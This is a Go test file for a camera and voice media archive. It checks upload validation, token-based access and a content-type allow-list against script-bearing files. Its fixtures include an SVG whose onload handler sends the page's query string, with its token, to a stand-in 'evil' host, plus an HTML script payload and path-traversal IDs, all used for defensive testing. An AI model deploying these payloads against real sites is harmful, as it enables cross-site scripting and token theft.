package archive

import (
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"
)

func TestMediaObjects(t *testing.T) {
	clock := &fakeClock{now: t0.Add(time.Hour)}
	s := newTestStore(t, t.TempDir(), clock)
	defer s.Close()
	s.MaxObjectSize = 1 << 10
	c := serve(t, s)

	upload := func(device, query, contentType string, body []byte) (int, string) {
		code, b, _ := do(t, c, "POST", "/api/v1/devices/"+device+"/objects"+query, contentType, body)
		var r struct{ ID, Error string }
		json.Unmarshal(b, &r)
		if code == 201 {
			return code, r.ID
		}
		return code, r.Error
	}
	jpeg := []byte("\xff\xd8\xff\xe0 fake jpeg")
	code, photo := upload("mcam1", "?kind=photo&at="+rfc(t0), "image/jpeg", jpeg)
	if code != 201 || !validObjectID(photo) {
		t.Fatalf("photo upload: %d %q", code, photo)
	}
	code, clip := upload("voice1", "", "audio/ogg", []byte("OggS fake clip"))
	if code != 201 {
		t.Fatalf("clip upload: %d %q", code, clip)
	}

	for _, tc := range []struct {
		name, query, contentType string
		body                     []byte
		code                     int
	}{
		{"kind does not match", "?kind=audio", "image/jpeg", jpeg, 400},
		{"not media", "", "text/plain", jpeg, 400},
		{"empty", "", "image/jpeg", nil, 400},
		{"too large", "", "image/jpeg", make([]byte, 2<<10), 413},
		{"bad time", "?at=noon", "image/jpeg", jpeg, 400},
	} {
		t.Run("upload "+tc.name, func(t *testing.T) {
			if code, msg := upload("mcam1", tc.query, tc.contentType, tc.body); code != tc.code || msg == "" {
				t.Fatalf("%d %q, want %d with a message", code, msg, tc.code)
			}
		})
	}
	if code, _ := upload("..", "", "image/jpeg", jpeg); code == 201 {
		t.Fatal("upload to device \"..\" accepted")
	}

	for _, tc := range []struct {
		name, path  string
		code        int
		contentType string
		attachment  bool
	}{
		{"photo", "/archive/mcam1/objects/" + photo + "?token=viewer", 200, "image/jpeg", false},
		{"photo download", "/archive/mcam1/objects/" + photo + "?download=1&token=viewer", 200, "image/jpeg", true},
		{"clip playback", "/archive/voice1/objects/" + clip + "?token=viewer", 200, "audio/ogg", false},
		{"clip download needs audio_download", "/archive/voice1/objects/" + clip + "?download=1&token=viewer", 403, "", false},
		{"clip download", "/archive/voice1/objects/" + clip + "?download=1&token=admin", 200, "audio/ogg", true},
		{"no token", "/archive/mcam1/objects/" + photo, 401, "", false},
		{"wrong device", "/archive/voice1/objects/" + photo + "?token=admin", 404, "", false},
		{"unknown id", "/archive/mcam1/objects/0123456789abcdef0123456789abcdef?token=admin", 404, "", false},
		{"id trick", "/archive/mcam1/objects/..%5c" + photo + "?token=admin", 400, "", false},
		{"id not hex", "/archive/mcam1/objects/" + strings.ToUpper(photo) + "?token=admin", 400, "", false},
	} {
		t.Run(tc.name, func(t *testing.T) {
			code, body, h := do(t, c, "GET", tc.path, "", nil)
			if code != tc.code {
				t.Fatalf("%d %s, want %d", code, body, tc.code)
			}
			if code != 200 {
				return
			}
			if string(h.ContentType()) != tc.contentType {
				t.Fatalf("Content-Type %q", h.ContentType())
			}
			if got := strings.HasPrefix(string(h.Peek("Content-Disposition")), "attachment"); got != tc.attachment {
				t.Fatalf("Content-Disposition %q", h.Peek("Content-Disposition"))
			}
		})
	}
	// A photo is authorized at its capture time: a footage window hides it.
	s.Authorizer.(*testAuth).notBefore = t0.Add(time.Minute)
	if code, _, _ := do(t, c, "GET", "/archive/mcam1/objects/"+photo+"?token=admin", "", nil); code != 403 {
		t.Fatalf("photo outside the footage window: %d", code)
	}
}

// TestMediaObjectAllowList: objects are served from camgate's origin to
// viewers whose URL carries their token, so an upload is refused unless its
// type is an allowed image/audio type and its bytes are that type (an SVG,
// HTML, or HTML declared as image/png would run script there), nothing of a
// refused upload is stored, and every object is served nosniff, sandboxed,
// and as an octet-stream attachment when it predates the allow-list.
func TestMediaObjectAllowList(t *testing.T) {
	clock := &fakeClock{now: t0.Add(time.Hour)}
	dir := t.TempDir()
	s := newTestStore(t, dir, clock)
	defer s.Close()
	c := serve(t, s)
	const svg = `<svg xmlns="http://www.w3.org/2000/svg" onload="fetch('//evil/?'+location.search)"/>`
	const html = "<html><script>alert(document.location)</script></html>"

	checkServed := func(t *testing.T, path, contentType, disposition string, want []byte) {
		t.Helper()
		code, body, h := do(t, c, "GET", path, "", nil)
		if code != 200 {
			t.Fatalf("GET: %d %s", code, body)
		}
		for k, v := range map[string]string{
			"Content-Type":            contentType,
			"X-Content-Type-Options":  "nosniff",
			"Content-Security-Policy": "default-src 'none'; sandbox",
			"Cache-Control":           "no-store",
		} {
			if got := string(h.Peek(k)); got != v {
				t.Errorf("%s: %q, want %q", k, got, v)
			}
		}
		if got := string(h.Peek("Content-Disposition")); !strings.HasPrefix(got, disposition+";") {
			t.Errorf("Content-Disposition %q, want %s", got, disposition)
		}
		if string(body) != string(want) {
			t.Errorf("body %q, want %q", body, want)
		}
	}

	for _, tc := range []struct {
		name, contentType string
		body              string
		served            string // "": refused with 400
	}{
		{"jpeg", "image/jpeg", "\xff\xd8\xff\xdb jpeg", "image/jpeg"},
		{"png with a parameter", "image/png; charset=binary", "\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR", "image/png"},
		{"webp", "image/webp", "RIFF\x1a\x00\x00\x00WEBPVP8 ", "image/webp"},
		{"mp3 with ID3", "audio/mpeg", "ID3\x04\x00\x00\x00\x00\x00\x00", "audio/mpeg"},
		{"mp3 frame", "audio/mpeg", "\xff\xfb\x90\x64\x00", "audio/mpeg"},
		{"aac adts", "audio/aac", "\xff\xf1\x50\x80\x02\x1f\xfc", "audio/aac"},
		{"ogg opus", "audio/ogg", "OggS\x00\x02\x00\x00OpusHead", "audio/ogg"},
		{"wav alias", "audio/x-wav", "RIFF\x24\x00\x00\x00WAVEfmt ", "audio/wav"},
		{"m4a", "audio/mp4", "\x00\x00\x00\x18ftypM4A \x00\x00\x00\x00", "audio/mp4"},

		{"svg", "image/svg+xml", svg, ""},
		{"html", "text/html", html, ""},
		{"html declared as png", "image/png", html, ""},
		{"svg declared as jpeg", "image/jpeg", svg, ""},
		{"png declared as jpeg", "image/jpeg", "\x89PNG\r\n\x1a\n\x00\x00", ""},
		{"wav declared as webp", "image/webp", "RIFF\x24\x00\x00\x00WAVEfmt ", ""},
		{"mp3 declared as aac", "audio/aac", "\xff\xfb\x90\x64\x00\x00\x00", ""},
		{"adts declared as mp3", "audio/mpeg", "\xff\xf1\x50\x80\x02\x1f\xfc", ""},
		{"gif", "image/gif", "GIF89a\x01\x00\x01\x00", ""},
		{"mp4 video", "video/mp4", "\x00\x00\x00\x18ftypisom\x00\x00\x00\x00", ""},
		{"xml audio", "audio/x-unknown", "<?xml version=\"1.0\"?><svg/>", ""},
		{"octet-stream", "application/octet-stream", "\xff\xd8\xff\xdb", ""},
	} {
		t.Run(tc.name, func(t *testing.T) {
			device := "media1"
			if tc.served == "" {
				device = "refused1"
			}
			code, b, _ := do(t, c, "POST", "/api/v1/devices/"+device+"/objects", tc.contentType, []byte(tc.body))
			var r struct{ ID, Error string }
			json.Unmarshal(b, &r)
			if tc.served == "" {
				if code != 400 || !strings.Contains(r.Error, "image/jpeg") || !strings.Contains(r.Error, "audio/ogg") {
					t.Fatalf("%d %s, want 400 naming the accepted types", code, b)
				}
				return
			}
			if code != 201 {
				t.Fatalf("%d %s, want 201", code, b)
			}
			checkServed(t, "/archive/media1/objects/"+r.ID+"?token=viewer", tc.served, "inline", []byte(tc.body))
			checkServed(t, "/archive/media1/objects/"+r.ID+"?download=1&token=admin", tc.served, "attachment", []byte(tc.body))
		})
	}
	if entries, err := os.ReadDir(filepath.Join(dir, "refused1", objectsDir)); !os.IsNotExist(err) {
		t.Fatalf("refused uploads left %d files (%v)", len(entries), err)
	}

	// Objects stored before the allow-list (an old data folder) are
	// attachments of no type a browser would render.
	legacy := filepath.Join(dir, "old1", objectsDir)
	if err := os.MkdirAll(legacy, 0o755); err != nil {
		t.Fatal(err)
	}
	for i, o := range []struct{ contentType, body string }{
		{"image/svg+xml", svg},
		{"image/png", html}, // an allowed type whose bytes are not
		{"text/html", html},
	} {
		id := fmt.Sprintf("%032x", i+1)
		meta, _ := json.Marshal(Object{ID: id, Device: "old1", Kind: KindPhoto, ContentType: o.contentType, At: t0, Size: int64(len(o.body))})
		if err := os.WriteFile(filepath.Join(legacy, id+".bin"), []byte(o.body), 0o644); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(filepath.Join(legacy, id+".json"), meta, 0o644); err != nil {
			t.Fatal(err)
		}
		t.Run("legacy "+o.contentType, func(t *testing.T) {
			checkServed(t, "/archive/old1/objects/"+id+"?token=viewer", "application/octet-stream", "attachment", []byte(o.body))
		})
	}
}
